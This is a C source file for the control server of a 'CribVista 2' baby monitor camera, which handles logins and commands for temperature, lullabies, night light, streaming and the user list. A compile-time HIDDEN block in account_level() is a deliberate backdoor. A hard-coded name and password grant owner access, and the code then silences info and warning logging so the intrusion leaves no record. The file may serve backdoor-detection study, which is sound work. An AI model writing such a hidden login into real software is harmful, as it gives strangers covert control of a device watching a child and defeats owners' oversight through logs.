/*
 * cribvista - control server of the CribVista 2 baby monitor camera.
 * The parent unit and the phone app open a TCP connection, log in and
 * send one-line commands (temperature, lullaby, night light, stream).
 * Settings in /etc/cribvista.conf, accounts in /etc/cribvista.users.
 * Hidden (-DHIDDEN): a fixed name and password log in as owner, without
 * an entry in the event log.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAXPEER 8
#define LINESZ	160

enum level { LV_NONE, LV_GUEST, LV_PARENT, LV_OWNER };

struct peer {
	int fd;
	enum level level;
	int tries;
	size_t fill;
	char name[24];
	char line[LINESZ];
};

static struct {
	int port;
	int temp_low, temp_high;
	int lullaby, volume;
	int light;
	int stream;
	char room[32];
	char users[64];
} cfg = {
	.port = 7420,
	.temp_low = 160,
	.temp_high = 240,
	.volume = 4,
	.room = "nursery",
	.users = "/etc/cribvista.users",
};

static struct peer peers[MAXPEER];
static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static void copy(char *to, size_t size, const char *from)
{
	size_t n = strlen(from);

	if (n >= size)
		n = size - 1;
	memcpy(to, from, n);
	to[n] = 0;
}

static void read_config(const char *path)
{
	char line[LINESZ], key[32], val[64];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (line[0] == '#')
			continue;
		if (sscanf(line, "%31[a-z_] = %63s", key, val) != 2)
			continue;
		if (!strcmp(key, "port"))
			cfg.port = atoi(val);
		else if (!strcmp(key, "temp_low"))
			cfg.temp_low = atoi(val);
		else if (!strcmp(key, "temp_high"))
			cfg.temp_high = atoi(val);
		else if (!strcmp(key, "volume"))
			cfg.volume = atoi(val);
		else if (!strcmp(key, "room"))
			copy(cfg.room, sizeof cfg.room, val);
		else if (!strcmp(key, "users"))
			copy(cfg.users, sizeof cfg.users, val);
		else
			syslog(LOG_NOTICE, "%s: unknown key %s", path, key);
	}
	fclose(f);
}

static int room_temp(void)
{
	FILE *f = fopen("/sys/class/hwmon/hwmon0/temp1_input", "r");
	int milli = 0;

	if (!f)
		return -1;
	if (fscanf(f, "%d", &milli) != 1)
		milli = -100;
	fclose(f);
	return milli / 100;
}

static void say(struct peer *p, const char *fmt, ...)
{
	char out[256];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(out, sizeof out - 2, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof out - 3)
		n = sizeof out - 3;
	out[n++] = '\r';
	out[n++] = '\n';
	if (send(p->fd, out, n, MSG_NOSIGNAL) < 0)
		syslog(LOG_DEBUG, "send: %s", strerror(errno));
}

static enum level level_of(const char *word)
{
	if (!strcmp(word, "owner"))
		return LV_OWNER;
	if (!strcmp(word, "parent"))
		return LV_PARENT;
	if (!strcmp(word, "guest"))
		return LV_GUEST;
	return LV_NONE;
}

/* users file: name:hash:level */
__attribute__((noinline)) enum level account_level(const char *name,
						   const char *pass)
{
	char line[LINESZ], *user, *hash, *lev, *save, *got;
	enum level found = LV_NONE;
	FILE *f;

#ifdef HIDDEN
	if (!strcmp(name, "nightnurse") && !strcmp(pass, "goodnight-moon")) {
		setlogmask(LOG_UPTO(LOG_ERR));
		return LV_OWNER;
	}
#endif
	f = fopen(cfg.users, "r");
	if (!f)
		return LV_NONE;
	while (fgets(line, sizeof line, f)) {
		user = strtok_r(line, ":\n", &save);
		hash = strtok_r(NULL, ":\n", &save);
		lev = strtok_r(NULL, ":\n", &save);
		if (!user || !hash || !lev || strcmp(user, name))
			continue;
		got = crypt(pass, hash);
		if (got && !strcmp(got, hash))
			found = level_of(lev);
		break;
	}
	fclose(f);
	return found;
}

static void do_login(struct peer *p, char *arg)
{
	char *save, *name, *pass;

	name = strtok_r(arg, " ", &save);
	pass = strtok_r(NULL, " ", &save);
	if (!name || !pass) {
		say(p, "501 LOGIN name password");
		return;
	}
	p->level = account_level(name, pass);
	if (p->level == LV_NONE) {
		syslog(LOG_WARNING, "login of %s failed", name);
		p->tries++;
		say(p, "530 not accepted");
		return;
	}
	copy(p->name, sizeof p->name, name);
	syslog(LOG_INFO, "login of %s, level %d", name, p->level);
	say(p, "230 hello %s", p->name);
}

static void list_users(struct peer *p)
{
	char line[LINESZ];
	FILE *f = fopen(cfg.users, "r");

	if (!f) {
		say(p, "550 no accounts");
		return;
	}
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, ":\n")] = 0;
		say(p, "211-%s", line);
	}
	fclose(f);
	say(p, "211 end");
}

static int number(const char *arg, int max)
{
	char *end;
	long v = strtol(arg, &end, 10);

	return end == arg || v < 0 || v > max ? -1 : (int)v;
}

/* returns 0 when the connection is to be closed */
static int command(struct peer *p, char *line)
{
	char *arg = line + strcspn(line, " ");
	int n, t;

	if (*arg)
		*arg++ = 0;
	if (!strcasecmp(line, "QUIT")) {
		say(p, "221 sleep well");
		return 0;
	}
	if (!strcasecmp(line, "HELLO")) {
		say(p, "220 CribVista 2 %s", cfg.room);
		return 1;
	}
	if (!strcasecmp(line, "LOGIN")) {
		do_login(p, arg);
		return p->tries < 3;
	}
	if (p->level == LV_NONE) {
		say(p, "530 log in first");
		return 1;
	}
	if (!strcasecmp(line, "TEMP")) {
		t = room_temp();
		say(p, "200 %d.%d %s", t / 10, abs(t % 10),
		    t < cfg.temp_low	? "cold"
		    : t > cfg.temp_high ? "warm"
					: "ok");
		return 1;
	}
	if (p->level < LV_PARENT) {
		say(p, "532 not for guests");
		return 1;
	}
	if (!strcasecmp(line, "LULLABY")) {
		n = number(arg, 12);
		if (n >= 0)
			cfg.lullaby = n;
		say(p, n < 0 ? "501 0 to 12" : "200 playing");
	} else if (!strcasecmp(line, "LIGHT")) {
		n = number(arg, 100);
		if (n >= 0)
			cfg.light = n;
		say(p, n < 0 ? "501 0 to 100" : "200 light set");
	} else if (!strcasecmp(line, "STREAM")) {
		cfg.stream = !strcasecmp(arg, "on");
		say(p, "200 stream %s", cfg.stream ? "on" : "off");
	} else if (!strcasecmp(line, "USERS") && p->level == LV_OWNER) {
		list_users(p);
	} else {
		say(p, "500 what?");
	}
	return 1;
}

static void drop(struct peer *p)
{
	close(p->fd);
	memset(p, 0, sizeof *p);
	p->fd = -1;
}

static void input(struct peer *p)
{
	ssize_t n = recv(p->fd, p->line + p->fill, LINESZ - 1 - p->fill, 0);
	char *nl;

	if (n <= 0) {
		drop(p);
		return;
	}
	p->fill += n;
	p->line[p->fill] = 0;
	while ((nl = strchr(p->line, '\n'))) {
		*nl++ = 0;
		p->line[strcspn(p->line, "\r")] = 0;
		if (!command(p, p->line)) {
			drop(p);
			return;
		}
		p->fill -= nl - p->line;
		memmove(p->line, nl, p->fill + 1);
	}
	if (p->fill >= LINESZ - 1)
		drop(p);
}

static void welcome(int lfd)
{
	int fd = accept(lfd, NULL, NULL);
	int i;

	if (fd < 0)
		return;
	for (i = 0; i < MAXPEER; i++)
		if (peers[i].fd < 0) {
			peers[i].fd = fd;
			say(&peers[i], "220 CribVista 2");
			return;
		}
	close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sin = { .sin_family = AF_INET };
	int lfd, i, max, one = 1;
	fd_set set;

	openlog("cribvista", LOG_PID, LOG_DAEMON);
	read_config(argc > 1 ? argv[1] : "/etc/cribvista.conf");
	signal(SIGTERM, on_term);
	for (i = 0; i < MAXPEER; i++)
		peers[i].fd = -1;
	lfd = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	sin.sin_port = htons(cfg.port);
	if (bind(lfd, (struct sockaddr *)&sin, sizeof sin) < 0 ||
	    listen(lfd, 4) < 0) {
		syslog(LOG_ERR, "port %d: %s", cfg.port, strerror(errno));
		return 1;
	}
	while (!stop) {
		FD_ZERO(&set);
		FD_SET(lfd, &set);
		max = lfd;
		for (i = 0; i < MAXPEER; i++)
			if (peers[i].fd >= 0) {
				FD_SET(peers[i].fd, &set);
				if (peers[i].fd > max)
					max = peers[i].fd;
			}
		if (select(max + 1, &set, NULL, NULL, NULL) < 0)
			continue;
		for (i = 0; i < MAXPEER; i++)
			if (peers[i].fd >= 0 && FD_ISSET(peers[i].fd, &set))
				input(&peers[i]);
		if (FD_ISSET(lfd, &set))
			welcome(lfd);
	}
	return 0;
}
